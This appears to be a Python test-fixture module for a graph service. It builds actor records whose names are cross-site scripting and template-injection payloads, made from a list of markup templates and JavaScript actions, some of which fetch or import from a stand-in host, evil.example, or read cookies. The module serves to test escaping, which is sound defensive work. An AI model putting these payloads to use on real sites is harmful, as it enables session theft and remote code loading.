"""Stores that are hard to look at: hostile names, hubs, scripts of other directions, nothing at all."""

import sys
from collections.abc import Iterable, Iterator, Mapping
from contextlib import contextmanager
from itertools import islice, product
from pathlib import Path

from graph_service.client import open_graph
from tests.cli.served import Served, serving

Record = Mapping[str, object]

SOURCE: Record = {
    "record": "source", "id": "made-up", "title": "A report made up for a test",
    "published": "2024-01-15", "kind": "report", "reliability": "C", "origin": "nobody",
}  # fmt: skip

_MARKUP = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "\"><script>{}</script>",
    "'><img src=x onerror={}>", "<iframe srcdoc='<script>{}</script>'>", "<a href=javascript:{}>x",
    "javascript:{}", "data:text/html,<script>{}</script>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "<math><mi xlink:href=javascript:{}>", "<details open ontoggle={}>",
    "<style>@import'http://evil.example';</style>{}", "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}", "`${{{}}}`", "<!--<script>{}//-->", "&lt;script&gt;{}&lt;/script&gt;",
    "<b onmouseover={}>", "<form action=javascript:{}><input type=submit>", "<base href=//evil.example>{}",
    "<meta http-equiv=refresh content=0;url=javascript:{}>", "<object data=javascript:{}>", "=HYPERLINK({})",
)  # fmt: skip
_ACTS = (
    "alert(1)", "confirm`1`", "prompt(1)", "document.title='lost'", "window.lost=1",
    "location='//evil.example'", "fetch('//evil.example')", "document.body.remove()", "throw 1",
    "eval('alert(1)')", "top.lost=1", "import('//evil.example')", "open('//evil.example')",
    "document.cookie", "print()", "history.back()", "localStorage.clear()", "self.lost=1",
    "parent.lost=1", "setTimeout(alert)",
)  # fmt: skip


def hostile_names(number: int) -> list[str]:
    """So many names that would like to be more than names."""
    made = (markup.format(act) for act, markup in product(_ACTS, _MARKUP))
    return list(islice(made, number))


def star(names: Iterable[str], *, centre: str = "The centre") -> Iterator[Record]:
    """Everybody tied to one: actors `a0`, `a1` … of these names around `centre`."""
    yield SOURCE
    yield actor("centre", centre)
    for number, name in enumerate(names):
        yield actor(f"a{number}", name)
        yield claim(f"a{number}", "backs", "centre")


def actor(id_: str, name: str) -> Record:
    return {"record": "actor", "id": id_, "kind": "organisation", "name": name}


def claim(
    subject: str, relation: str, object_: str, when: str = "2020/..", **more: object
) -> Record:
    evidence = {"source": "made-up", "locator": "page 1", "confidence": 0.8} | more
    return {
        "record": "claim", "subject": subject, "relation": relation, "object": object_,
        "when": when, "evidence": [{**evidence, "status": "accepted"}],
    }  # fmt: skip


@contextmanager
def served_with(records: Iterable[Record], folder: Path) -> Iterator[Served]:
    """A service over these records alone."""
    url = f"sqlite:{folder / 'made.sqlite'}"
    with open_graph(url, create=True) as graph:
        if made := list(records):
            graph.propose(made)
    with serving([sys.executable, "-m", "graph_service", "--store", url], folder) as served:
        yield served
